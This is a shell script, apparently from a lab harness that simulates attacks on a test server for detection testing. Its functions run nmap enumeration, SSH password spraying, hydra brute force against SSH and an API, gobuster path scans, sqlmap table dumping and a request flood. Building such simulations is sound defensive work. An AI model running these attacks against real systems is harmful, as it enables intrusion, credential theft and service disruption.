# The attacks. Each one is bounded in time (timeout) and in count (list length).

# One hundred common passwords; the right one is number 84.
password_list() {
    local word tail
    for word in password welcome dragon monkey letmein qwerty football master \
        shadow sunshine princess secret summer winter spring hello autumn \
        freedom charlie ranger; do
        for tail in '' 1 123 2024 2025; do echo "$word$tail"; done
    done
}

# Names and passwords as they come from leaked lists; the last pair is valid.
pair_list() {
    local name
    for name in admin api test guest service backup jenkins report app info \
        monitor root; do
        printf '%s:%s\n' "$name" "$name" "$name" password "$name" "${name}123" \
            "$name" changeme "$name" 'Passw0rd!'
    done
    echo "$API_USER:$API_PASSWORD"
}

attack_nmap() {
    on a77 timeout 150 nmap -n -Pn -sV -p 22,80,443 --script-timeout 60s \
        --script http-enum,http-headers,http-methods,http-title,http-robots.txt,http-git,http-config-backup,ssh-auth-methods,ssh2-enum-algos \
        "$SERVER"
}

# One wrong password for each user, with a long pause between: no single user
# sees more than one failure.
attack_spray() {
    local user
    for user in alice bob carol dave deploy root admin backup git mail \
        ftpuser oracle mysql www; do
        ssh_password a67 "$user" true 'Winter2026!'
        pause 18 26
    done
}

attack_ssh() {
    password_list >"$WORK/out/passwords"
    on a66 timeout 240 hydra -I -f -t 6 -l deploy -P "$WORK/out/passwords" "ssh://$SERVER"
}

# The attacker comes back with the password that was found.
attack_ssh_login() {
    ssh_password a66 deploy 'id; uname -s; ls -a; sleep 8' autumn2024
}

# Eight attempts in about half a minute.
attack_api_slowly() {
    local i
    for i in {1..8}; do
        on a88 curl -s -m 10 -o /dev/null -u "admin:guess$i" "$URL/api/orders"
        sleep 4
    done
}

attack_api() {
    pair_list >"$WORK/out/pairs"
    on a88 timeout 150 hydra -I -f -c 1 -C "$WORK/out/pairs" "http-get://$SERVER/api/orders"
}

attack_paths() {
    on a77 timeout 150 gobuster dir -q -t 4 --delay 50ms --no-color \
        -u "$URL" -w /usr/share/dirb/wordlists/common.txt
}

# The first parameter is safe, so the tool tries all it has; the second is not.
attack_sql() {
    on a78 timeout 60 sqlmap --batch --delay 0.1 -u "$URL/search?q=tea" || true
    on a78 timeout 60 sqlmap --batch --delay 0.1 --dump -u "$URL/item?id=1"
}

# 600 requests, ten each second.
attack_flood() {
    on a90 timeout 90 curl -s -m 80 --rate 10/s -o /dev/null "$URL/?n=[1-600]"
}
